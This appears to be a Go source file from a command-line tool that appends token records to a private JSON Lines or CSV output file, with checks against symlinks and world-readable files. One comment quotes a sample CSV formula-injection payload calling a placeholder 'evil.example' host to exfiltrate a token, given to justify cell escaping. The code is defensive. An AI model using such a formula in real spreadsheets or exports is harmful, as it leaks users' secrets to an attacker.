package tokenfile

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"

	"github.com/axero-cli/axero/internal/safefile"
	"github.com/axero-cli/axero/internal/textsafe"
)

// Output appends token records to a bulk run's output file: JSON Lines,
// or CSV when the path ends in .csv, mode 0600. Each record reaches the
// file in a single write call, so a crash leaves at most one torn line,
// at the end. It is used from one goroutine at a time.
type Output struct {
	f   *os.File
	csv bool
	buf bytes.Buffer
	cw  *csv.Writer
}

// ExistsError: the output file exists and the run is not resumed.
type ExistsError struct{ Path string }

func (e *ExistsError) Error() string {
	return fmt.Sprintf("--out %s already exists: pass --resume to continue that run, or choose another file", e.Path)
}

// Usage reports an existing --out as a usage mistake (exit 2), found
// before anything changes, as the single commands report theirs.
func (e *ExistsError) Usage() bool { return true }

// CreateOutput creates path, mode 0600, failing if anything exists there
// (a symbolic link included).
func CreateOutput(path string) (*Output, error) {
	f, err := safefile.Create(path, os.O_WRONLY)
	if errors.Is(err, os.ErrExist) {
		return nil, &ExistsError{Path: path}
	}
	if err != nil {
		return nil, fmt.Errorf("cannot create --out %s: %w", path, safefile.Unwrap(err))
	}
	return startOutput(f, path, 0)
}

// AppendOutput opens an existing output for a resumed run, after the
// records up to size, cutting off a torn last record. A missing file is
// created. It refuses a symbolic link, anything but a regular file, and a
// file that others can read: appending tokens to it would hand them over.
func AppendOutput(path string, size int64) (*Output, error) {
	fi, err := safefile.Check(path)
	if err != nil {
		return nil, err
	}
	if fi == nil {
		return CreateOutput(path)
	}
	if err := safefile.CheckPrivate(path, fi); err != nil {
		return nil, err
	}
	f, err := safefile.Open(path, os.O_WRONLY, fi)
	if err != nil {
		return nil, err
	}
	if err := f.Truncate(size); err != nil {
		_ = f.Close()
		return nil, fmt.Errorf("--out %s: %w", path, safefile.Unwrap(err))
	}
	if _, err := f.Seek(size, io.SeekStart); err != nil {
		_ = f.Close()
		return nil, err
	}
	return startOutput(f, path, size)
}

// startOutput writes a CSV output's header when the file is new.
func startOutput(f *os.File, path string, size int64) (*Output, error) {
	w := &Output{f: f, csv: IsCSVPath(path)}
	w.cw = csv.NewWriter(&w.buf)
	if w.csv && size == 0 {
		err := w.cw.Write(OutputColumns)
		if err == nil {
			err = w.flushBuf()
		}
		if err == nil {
			err = f.Sync()
		}
		if err != nil {
			_ = f.Close()
			return nil, err
		}
	}
	return w, nil
}

// Write appends one record without syncing; Sync makes the records
// written so far durable. In CSV every cell goes through textsafe.CSVCell:
// a user or token name such as =HYPERLINK("http://evil.example/?"&F2)
// must not become a formula that sends the token in the next cell away.
// JSON Lines keep exact values.
func (w *Output) Write(r Record) error {
	if w.csv {
		if err := w.cw.Write(textsafe.CSVRow(r.Fields())); err != nil {
			return err
		}
	} else {
		enc := json.NewEncoder(&w.buf)
		enc.SetEscapeHTML(false)
		if err := enc.Encode(r); err != nil {
			return err
		}
	}
	return w.flushBuf()
}

func (w *Output) flushBuf() error {
	w.cw.Flush()
	if err := w.cw.Error(); err != nil {
		return err
	}
	_, err := w.f.Write(w.buf.Bytes())
	w.buf.Reset()
	return err
}

// Sync makes every record written so far durable.
func (w *Output) Sync() error { return w.f.Sync() }

// Close syncs and closes the file.
func (w *Output) Close() error { return errors.Join(w.f.Sync(), w.f.Close()) }
